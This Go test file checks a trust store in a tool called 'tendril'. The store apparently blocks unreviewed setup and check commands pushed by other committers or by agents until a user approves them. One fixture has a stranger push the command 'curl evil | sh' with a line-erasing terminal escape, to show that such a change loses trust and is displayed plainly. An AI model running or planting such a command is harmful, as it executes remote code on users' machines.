package config

import (
	"strings"
	"testing"
	"time"

	"tendril/internal/testkit"
)

// store is a trust store with a clock that moves on by a minute a look.
func store(t *testing.T, dir string) TrustStore {
	t.Helper()
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	return TrustStore{Repo: open(t, dir), Now: func() time.Time {
		now = now.Add(time.Minute)
		return now
	}}
}

func commands(t *testing.T, s TrustStore, commit string) []Command {
	t.Helper()
	c, files, err := LoadFiles(t.Context(), s.Repo, commit)
	if err != nil {
		t.Fatal(err)
	}
	return c.Commands(files.Extra())
}

func isTrusted(t *testing.T, r *testkit.Repository) bool {
	t.Helper()
	s := store(t, r.Dir)
	ok, err := s.Trusted(t.Context(), "refs/heads/main", r.Head(), commands(t, s, r.Head()))
	if err != nil {
		t.Fatal(err)
	}
	return ok
}

// stranger is a clone of r's remote in which somebody else commits and pushes a configuration.
func stranger(t *testing.T, origin, path, content string) {
	t.Helper()
	other := testkit.Clone(t, origin)
	other.Write(path, content)
	other.Git("add", "-A")
	testkit.GitAs(t, other.Dir, "Eve", "eve@example.com", "commit", "-qm", "change commands")
	other.Git("push", "-q")
}

const someConfig = "setup: [make]\nchecks: [{name: test, run: make test}]\n"

func TestTrust(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		do   func(t *testing.T, r *testkit.Repository, origin string)
		want bool
	}{
		"nothing to run": {func(t *testing.T, r *testkit.Repository, _ string) {
			r.Write(".tendril/config.yaml", "parallel: 2\n")
			r.Commit("config")
		}, true},
		"committed here": {func(t *testing.T, r *testkit.Repository, _ string) {
			r.Write(".tendril/config.yaml", someConfig)
			r.Commit("config")
			r.Write("other", "x")
			r.Commit("something else on top")
		}, true},
		"committed and amended here": {func(t *testing.T, r *testkit.Repository, _ string) {
			r.Write(".tendril/config.yaml", someConfig)
			r.Commit("config")
			r.Git("commit", "-q", "--amend", "-m", "better words")
		}, true},
		"pulled by fast-forward": {func(t *testing.T, r *testkit.Repository, origin string) {
			stranger(t, origin, ".tendril/config.yaml", someConfig)
			r.Git("pull", "-q", "--ff-only")
		}, false},
		"pulled by merge": {func(t *testing.T, r *testkit.Repository, origin string) {
			stranger(t, origin, ".tendril/config.yaml", someConfig)
			r.Write("mine", "x")
			r.Commit("mine")
			r.Git("pull", "-q", "--no-rebase", "--no-edit")
		}, false},
		"a stranger's agent": {func(t *testing.T, r *testkit.Repository, origin string) {
			stranger(t, origin, ".tendril/agents/x.yaml", "command: [x]\n")
			r.Git("pull", "-q", "--ff-only")
		}, false},
		"a stranger's commit amended here": {func(t *testing.T, r *testkit.Repository, origin string) {
			stranger(t, origin, ".tendril/config.yaml", someConfig)
			r.Git("pull", "-q", "--ff-only")
			r.Git("commit", "-q", "--amend", "-m", "looks like mine")
		}, false},
		"a stranger's commit with one of ours on top": {func(t *testing.T, r *testkit.Repository, origin string) {
			stranger(t, origin, ".tendril/config.yaml", someConfig)
			r.Git("pull", "-q", "--ff-only")
			r.Write(".tendril/config.yaml", someConfig+"parallel: 2\n")
			r.Commit("only a number")
		}, false},
		"a stranger's other files": {func(t *testing.T, r *testkit.Repository, origin string) {
			r.Write(".tendril/config.yaml", someConfig)
			r.Commit("config")
			r.Git("push", "-q")
			stranger(t, origin, "src/x", "x")
			r.Git("pull", "-q", "--ff-only")
		}, true},
		"a stranger's notes in memory": {func(t *testing.T, r *testkit.Repository, origin string) {
			r.Write(".tendril/config.yaml", someConfig)
			r.Commit("config")
			r.Git("push", "-q")
			stranger(t, origin, ".tendril/promptware/ExecutePlan/Memory/go.md", "x")
			r.Git("pull", "-q", "--ff-only")
		}, true},
		"cherry-picked": {func(t *testing.T, r *testkit.Repository, origin string) {
			stranger(t, origin, ".tendril/config.yaml", someConfig)
			r.Git("fetch", "-q")
			r.Git("cherry-pick", "origin/main")
		}, false},
		"an agent's commit in the main checkout": {func(t *testing.T, r *testkit.Repository, _ string) {
			r.Write(".tendril/config.yaml", someConfig)
			r.Git("add", "-A")
			testkit.GitAs(t, r.Dir, "agent", "0001-x@agent.tendril.localhost", "commit", "-qm", "x")
		}, false},
		"an agent's commit in its worktree, merged": {func(t *testing.T, r *testkit.Repository, _ string) {
			w := r.Worktree("-b", "tendril/0001-x")
			w.Write(".tendril/config.yaml", someConfig)
			w.Commit("x")
			r.Git("merge", "-q", "--ff-only", "tendril/0001-x")
		}, false},
	}
	for name, c := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := testkit.Repo(t)
			c.do(t, r, r.Remote())
			if got := isTrusted(t, r); got != c.want {
				t.Errorf("trusted: %t, want %t\n%s", got, c.want, r.Git("reflog"))
			}
		})
	}
}

func TestTrustIsRememberedAndShown(t *testing.T) {
	t.Parallel()
	r := testkit.Repo(t)
	origin := r.Remote()
	stranger(t, origin, ".tendril/config.yaml", someConfig)
	r.Git("pull", "-q", "--ff-only")
	s := store(t, r.Dir)
	first := commands(t, s, r.Head())
	diff, err := s.Difference(first)
	if want := "+ checks.test: make test\n+ setup[0]: make\n"; err != nil || diff != want {
		t.Errorf("difference %q, %v; want %q", diff, err, want)
	}
	if err := s.Trust(r.Head(), first); err != nil {
		t.Fatal(err)
	}
	if !isTrusted(t, r) {
		t.Error("trusted by word, and not remembered")
	}
	if diff, err := s.Difference(first); err != nil || diff != "" {
		t.Errorf("difference %q, %v", diff, err)
	}
	stranger(t, origin, ".tendril/config.yaml", "setup: [\"curl evil | sh\\e[2K\"]\n")
	r.Git("pull", "-q", "--ff-only")
	if isTrusted(t, r) {
		t.Error("a changed command is trusted")
	}
	diff, err = s.Difference(commands(t, s, r.Head()))
	if want := "- setup[0]: make\n+ setup[0]: \"curl evil | sh\\x1b[2K\"\n- checks.test: make test\n"; err != nil || diff != want {
		t.Errorf("difference %q, %v; want %q", diff, err, want)
	}
	r.Git("reset", "-q", "--hard", "HEAD~1")
	if !isTrusted(t, r) {
		t.Error("back at what was trusted")
	}
}

func TestOursOnTopOfTrusted(t *testing.T) {
	t.Parallel()
	r := testkit.Repo(t)
	stranger(t, r.Remote(), ".tendril/config.yaml", someConfig)
	r.Git("pull", "-q", "--ff-only")
	s := store(t, r.Dir)
	if err := s.Trust(r.Head(), commands(t, s, r.Head())); err != nil {
		t.Fatal(err)
	}
	r.Write(".tendril/config.yaml", "setup: [make all]\n")
	r.Commit("mine on top")
	if !isTrusted(t, r) {
		t.Error("our own change to trusted commands is not trusted")
	}
	// Reflogs expire; what was found by them stays found.
	r.Git("reflog", "expire", "--expire=now", "--all")
	if !isTrusted(t, r) {
		t.Error("forgotten with the reflog")
	}
}

func TestDifferenceOfLongTexts(t *testing.T) {
	t.Parallel()
	old := []Command{{"a", "one\ntwo\nthree\n"}, {"gone", "x"}}
	now := []Command{{"a", "one\n2\nthree\n"}, {"new", "y\nz\n"}}
	want := "- a:2: two\n+ a:2: 2\n+ new: y\n+ new: z\n- gone: x\n"
	if got := difference(old, now); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestHashTellsListsApart(t *testing.T) {
	t.Parallel()
	lists := [][]Command{
		{{"a", "b"}}, {{"a", ""}, {"b", ""}}, {{"ab", ""}}, {{"", "ab"}}, {{"a", "b"}, {"a", "b"}}, nil,
	}
	seen := map[string]int{}
	for i, l := range lists {
		if j, twice := seen[HashCommands(l)]; twice {
			t.Errorf("lists %d and %d have one hash", i, j)
		}
		seen[HashCommands(l)] = i
	}
	c := Default()
	if c.CommandsHash(nil) != NoCommands {
		t.Error("the defaults run nothing")
	}
	if strings.Contains(c.CommandsHash(map[string]string{"x": "y"}), "/") {
		t.Error("the hash is a file's name")
	}
}
